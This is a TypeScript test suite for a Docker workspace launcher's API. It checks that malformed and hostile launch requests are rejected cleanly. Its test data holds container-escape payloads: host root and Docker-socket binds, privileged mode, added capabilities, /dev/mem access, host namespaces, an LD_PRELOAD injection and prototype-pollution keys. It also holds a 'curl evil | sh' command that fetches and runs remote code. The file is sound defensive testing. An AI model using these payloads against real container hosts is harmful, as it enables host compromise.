import http from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  JUPYTER_IMAGE,
  SETUP_TIMEOUT_MS,
  callApi,
  containersOf,
  isErrorBody,
  startGantry,
  type GantryEnv,
  type Seeded,
} from "../helpers/workspaces";

// Hostile and broken launch requests: every one is a clear 4xx, nothing reaches Docker, no record is made, and
// the server keeps serving. Then a server whose Docker engine is unreachable: 503 and nothing changes.

describe("launch request validation", () => {
  let g: GantryEnv;
  let mallory: Seeded;
  let imageId: string;
  const valid = () => ({ name: "ok", imageId, gpus: 0, memoryGb: 1, cpus: 0.5 });

  beforeAll(async () => {
    // A host without GPUs, whatever the environment (CI points GANTRY_NVIDIA_SMI at a stand-in with four).
    g = await startGantry({ prefix: "gantry-input-", env: { GANTRY_NVIDIA_SMI: "/nonexistent/nvidia-smi" } });
    mallory = await g.seedUser("mallory");
    imageId = await g.addImage({ name: "jupyter", ref: JUPYTER_IMAGE });
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    await g?.cleanup();
    await g?.server.stop();
    g?.dataDir.remove();
  }, SETUP_TIMEOUT_MS);

  async function expectNothingCreated(): Promise<void> {
    const list = await g.api("/api/workspaces", { token: mallory.token });
    expect(list.status).toBe(200);
    expect(list.body).toEqual([]);
    const all = await g.api("/api/workspaces?all=1", { token: g.adminToken });
    expect(all.body).toEqual([]);
    expect(await containersOf(mallory.id)).toEqual([]);
  }

  async function post(body: string | Uint8Array, headers?: Record<string, string>) {
    return g.api("/api/workspaces", { token: mallory.token, method: "POST", body, headers });
  }

  // Fields that would let a request shape the container, each sent next to a complete, valid request.
  const smuggled: [string, Record<string, unknown>][] = [
    ["an image ref", { image: "alpine:latest" }],
    ["an image ref (imageRef)", { imageRef: "docker.io/library/alpine:latest" }],
    ["an image ref (Docker's Image)", { Image: "alpine:latest" }],
    ["binds", { binds: ["/:/host"] }],
    ["binds (Docker's Binds)", { Binds: ["/var/run/docker.sock:/var/run/docker.sock"] }],
    ["mounts", { mounts: [{ Type: "bind", Source: "/", Target: "/host" }] }],
    ["volumes", { volumes: { "/host": {} } }],
    ["privileged", { privileged: true }],
    ["privileged (Docker's Privileged)", { Privileged: true }],
    ["capabilities", { capAdd: ["SYS_ADMIN"] }],
    ["capabilities (Docker's CapAdd)", { CapAdd: ["ALL"] }],
    ["capabilities (cap_add)", { cap_add: ["NET_ADMIN"] }],
    ["devices", { devices: ["/dev/sda:/dev/sda"] }],
    ["devices (Docker's Devices)", { Devices: [{ PathOnHost: "/dev/mem", PathInContainer: "/dev/mem", CgroupPermissions: "rwm" }] }],
    ["GPU devices", { gpuDevices: ["GPU-aaaa"], DeviceRequests: [{ Driver: "nvidia", Count: -1 }] }],
    ["environment", { env: { NVIDIA_VISIBLE_DEVICES: "all" } }],
    ["environment (Docker's Env)", { Env: ["NVIDIA_VISIBLE_DEVICES=all"] }],
    ["environment (environment)", { environment: ["LD_PRELOAD=/tmp/x.so"] }],
    ["network", { network: "host" }],
    ["network (Docker's NetworkMode)", { NetworkMode: "host" }],
    ["namespaces", { PidMode: "host", IpcMode: "host", UTSMode: "host", UsernsMode: "host" }],
    ["security options", { SecurityOpt: ["seccomp=unconfined", "apparmor=unconfined"] }],
    ["a command", { command: "sh -c 'curl evil | sh'" }],
    ["a command (Docker's Cmd)", { Cmd: ["sh"] }],
    ["an entrypoint", { Entrypoint: ["/bin/sh"] }],
    ["a user", { user: "root" }],
    ["a user (Docker's User)", { User: "0:0" }],
    ["a whole HostConfig", { HostConfig: { Privileged: true, Binds: ["/:/host"] } }],
    ["ports", { PortBindings: { "8888/tcp": [{ HostPort: "80" }] } }],
    ["labels", { labels: { "gantry.user": "someone-else" } }],
    ["a shm size", { shmSize: 1e12 }],
    ["an owner", { userId: "someone-else" }],
  ];

  it.each(smuggled)("refuses a body that tries to set %s: 422, nothing created", async (_what, extra) => {
    const res = await g.api("/api/workspaces", { token: mallory.token, json: { ...valid(), ...extra } });
    expect({ status: res.status, ok: isErrorBody(res.body, "validation_failed") }, res.text).toEqual({ status: 422, ok: true });
    expect(res.body.error.message).toMatch(/unknown field/i);
    await expectNothingCreated();
  });

  it("refuses __proto__ and constructor keys (422), nothing created", async () => {
    for (const raw of [
      `{"name":"ok","imageId":"${imageId}","gpus":0,"memoryGb":1,"cpus":0.5,"__proto__":{"privileged":true}}`,
      `{"name":"ok","imageId":"${imageId}","gpus":0,"memoryGb":1,"cpus":0.5,"constructor":{"prototype":{"privileged":true}}}`,
    ]) {
      const res = await post(raw);
      expect({ raw, status: res.status, ok: isErrorBody(res.body, "validation_failed") }).toEqual({ raw, status: 422, ok: true });
    }
    await expectNothingCreated();
  });

  it.each([
    ["truncated JSON", '{"name":"ok","imageId":'],
    ["single quotes", "{'name':'ok'}"],
    ["a trailing comma", '{"name":"ok",}'],
    ["a bare NaN", '{"name":"ok","memoryGb":NaN}'],
    ["two documents", '{"name":"ok"}{"name":"again"}'],
    ["plain text", "hello"],
  ])("malformed JSON (%s) is 400 invalid_json", async (_what, raw) => {
    const res = await post(raw);
    expect({ status: res.status, ok: isErrorBody(res.body, "invalid_json") }, res.text).toEqual({ status: 400, ok: true });
    await expectNothingCreated();
  });

  it.each([
    ["a stray 0xff byte", [0xff]],
    ["an overlong '/' (0xc0 0xaf)", [0xc0, 0xaf]],
    ["a lone surrogate (0xed 0xa0 0x80)", [0xed, 0xa0, 0x80]],
    ["a truncated sequence (0xe2 0x82)", [0xe2, 0x82]],
  ])("invalid UTF-8 (%s) is 400 invalid_encoding", async (_what, bytes) => {
    const head = Buffer.from('{"name":"');
    const tail = Buffer.from(`","imageId":"${imageId}","gpus":0,"memoryGb":1,"cpus":0.5}`);
    const res = await post(new Uint8Array(Buffer.concat([head, Buffer.from(bytes), tail])));
    expect({ status: res.status, ok: isErrorBody(res.body, "invalid_encoding") }, res.text).toEqual({ status: 400, ok: true });
    await expectNothingCreated();
  });

  // Raw node:http on a fresh connection each: the server answers before it has read the whole body, and such a
  // connection must not be reused by fetch's keep-alive pool for the next request.
  function postRaw(chunks: Buffer[], withLength: boolean): Promise<{ status: number; text: string }> {
    const url = new URL(`${g.url}/api/workspaces`);
    const total = chunks.reduce((n, c) => n + c.length, 0);
    let written = 0;
    let phase = "sending";
    return new Promise((resolve, reject) => {
      const timer = setTimeout(() => {
        req.destroy();
        reject(new Error(`no complete answer within 30 s (${phase}; ${written} of ${total} bytes written, ${withLength ? "with" : "without"} Content-Length)`));
      }, 30_000);
      const req = http.request(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: "POST",
          agent: false,
          headers: {
            authorization: `Bearer ${mallory.token}`,
            "content-type": "application/json",
            ...(withLength ? { "content-length": String(total) } : { "transfer-encoding": "chunked" }),
          },
        },
        (res) => {
          phase = `response ${res.statusCode} headers received`;
          let text = "";
          res.setEncoding("utf8");
          res.on("data", (d: string) => (text += d));
          res.on("end", () => {
            clearTimeout(timer);
            resolve({ status: res.statusCode ?? 0, text });
          });
          res.on("error", reject);
        },
      );
      // The server may close the connection while the rest of the body is still on its way.
      req.on("error", (e: NodeJS.ErrnoException) => {
        phase = `request error ${e.code}`;
        if (e.code !== "EPIPE" && e.code !== "ECONNRESET") reject(e);
      });
      (async () => {
        for (const c of chunks) {
          if (req.destroyed) return;
          const ok = req.write(c);
          written += c.length;
          if (!ok) await new Promise((r) => req.once("drain", r));
        }
        req.end();
        phase = "body sent";
      })().catch(() => {});
    });
  }

  it("a body over 1 MiB is 413, with a Content-Length and when streamed without one", async () => {
    const big = Buffer.from(JSON.stringify({ ...valid(), name: "x".repeat(1024 * 1024) }));
    const withLength = await postRaw([big], true);
    expect({ status: withLength.status, ok: isErrorBody(JSON.parse(withLength.text), "payload_too_large") }, withLength.text).toEqual({ status: 413, ok: true });

    // Chunked: the server cannot see the size up front and must stop reading at the limit.
    const chunks = [Buffer.from('{"name":"'), ...Array.from({ length: 32 }, () => Buffer.alloc(64 * 1024, "x")), Buffer.from('"}')];
    const chunked = await postRaw(chunks, false);
    expect({ status: chunked.status, ok: isErrorBody(JSON.parse(chunked.text), "payload_too_large") }, chunked.text).toEqual({ status: 413, ok: true });

    // Exactly at the limit is not too large (it is refused for its content instead).
    const atLimit = Buffer.from(JSON.stringify({ ...valid(), name: "" }).replace('"name":""', `"name":"${"y".repeat(1024 * 1024 - JSON.stringify({ ...valid(), name: "" }).length)}"`));
    expect(atLimit.length).toBe(1024 * 1024);
    const limit = await postRaw([atLimit], true);
    expect(limit.status, limit.text).toBe(422);
    await expectNothingCreated();
  });

  it("a body that is not JSON by its content type is a 4xx", async () => {
    const res = await post(JSON.stringify(valid()), { "content-type": "text/plain" });
    expect(res.status, res.text).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    await expectNothingCreated();
  });

  // Raw JSON text for one field, spliced into an otherwise valid body (so 1e309 reaches the server as written).
  const badValues: [string, string, string][] = [
    ["gpus", "negative", "-1"],
    ["gpus", "fractional", "0.5"],
    ["gpus", "a string", '"0"'],
    ["gpus", "1e309", "1e309"],
    ["gpus", "2**53+1", "9007199254740993"],
    ["gpus", "null", "null"],
    ["memoryGb", "negative", "-4"],
    ["memoryGb", "zero", "0"],
    ["memoryGb", "0.3", "0.3"],
    ["memoryGb", '"4" as a string', '"4"'],
    ["memoryGb", "1e309", "1e309"],
    ["memoryGb", "-1e309", "-1e309"],
    ["memoryGb", "2**53+1", "9007199254740993"],
    ["memoryGb", '"NaN" as a string', '"NaN"'],
    ["memoryGb", '"Infinity" as a string', '"Infinity"'],
    ["memoryGb", "an object", '{"$gt":0}'],
    ["cpus", "0.3", "0.3"],
    ["cpus", "zero", "0"],
    ["cpus", "negative", "-0.5"],
    ["cpus", '"4" as a string', '"4"'],
    ["cpus", "1e309", "1e309"],
    ["cpus", "2**53+1", "9007199254740993"],
    ["cpus", '"NaN" as a string', '"NaN"'],
    ["cpus", "an array", "[1]"],
    ["name", "empty", '""'],
    ["name", "blank", '"   "'],
    ["name", "too long", JSON.stringify("n".repeat(65))],
    ["name", "a control character", '"a\\u0000b"'],
    ["name", "a number", "5"],
    ["imageId", "unknown", '"no-such-image"'],
    ["imageId", "a number", "1"],
    ["imageId", "huge", JSON.stringify("i".repeat(100_000))],
  ];

  it.each(badValues)("%s %s is 422 validation_failed, never 500", async (field, _what, raw) => {
    const fields: Record<string, string> = {
      name: '"ok"',
      imageId: JSON.stringify(imageId),
      gpus: "0",
      memoryGb: "1",
      cpus: "0.5",
    };
    fields[field] = raw;
    const body = `{${Object.entries(fields).map(([k, v]) => `"${k}":${v}`).join(",")}}`;
    const res = await post(body);
    expect({ status: res.status, ok: isErrorBody(res.body, "validation_failed") }, res.text).toEqual({ status: 422, ok: true });
    expect(res.body.error.message).toContain(field);
    await expectNothingCreated();
  });

  it("missing fields and non-object bodies are 422", async () => {
    for (const raw of ["{}", "[]", "null", "42", '"text"', `{"name":"ok","imageId":"${imageId}"}`]) {
      const res = await post(raw);
      expect({ raw, status: res.status, ok: isErrorBody(res.body, "validation_failed") }, res.text).toEqual({ raw, status: 422, ok: true });
    }
    await expectNothingCreated();
  });

  it("asking for a GPU on a host without GPUs is a 4xx (this issue allows only gpus: 0), never 500", async () => {
    const res = await g.api("/api/workspaces", { token: mallory.token, json: { ...valid(), gpus: 1 } });
    expect(res.status, res.text).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    await expectNothingCreated();
  });

  it("the server keeps serving afterwards, and logged no internal error", async () => {
    const health = await g.api("/api/health");
    expect(health.status).toBe(200);
    expect(health.body).toMatchObject({ ok: true, database: true, docker: true });
    expect((await g.api("/api/workspaces", { token: mallory.token })).status).toBe(200);
    expect(g.server.stdout() + g.server.stderr()).not.toMatch(/request failed|unhandled request error/);
  });
});

describe("with the Docker engine unreachable", () => {
  let g: GantryEnv;
  let user: Seeded;
  let imageId: string;

  beforeAll(async () => {
    g = await startGantry({ prefix: "gantry-nodocker-", env: { DOCKER_HOST: "unix:///tmp/nonexistent.sock" } });
    user = await g.seedUser("nodocker");
    imageId = await g.addImage({ name: "jupyter", ref: JUPYTER_IMAGE });
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    await g?.cleanup();
    await g?.server.stop();
    g?.dataDir.remove();
  }, SETUP_TIMEOUT_MS);

  it("GET /api/health says docker: false", async () => {
    const res = await callApi(g.url, "/api/health");
    expect(res.body).toMatchObject({ ok: false, database: true, docker: false });
  });

  it("POST /api/workspaces answers 503 docker_unavailable and records nothing", async () => {
    const res = await g.api("/api/workspaces", { token: user.token, json: { name: "ws", imageId, gpus: 0, memoryGb: 1, cpus: 0.5 } });
    expect({ status: res.status, ok: isErrorBody(res.body, "docker_unavailable") }, res.text).toEqual({ status: 503, ok: true });
    expect(res.body.error.message).toMatch(/docker/i);
    expect((await g.api("/api/workspaces", { token: user.token })).body).toEqual([]);
    expect((await g.api("/api/workspaces?all=1", { token: g.adminToken })).body).toEqual([]);
    const me = await g.api("/api/me", { token: user.token });
    if (me.body?.usage) expect(me.body.usage).toMatchObject({ memoryGb: 0, cpus: 0, workspaces: 0 });
  });

  it("still validates first: a bad body is 422, not 503", async () => {
    const res = await g.api("/api/workspaces", { token: user.token, json: { name: "ws", imageId, gpus: 0, memoryGb: 1, cpus: 0.5, privileged: true } });
    expect(res.status).toBe(422);
  });
});
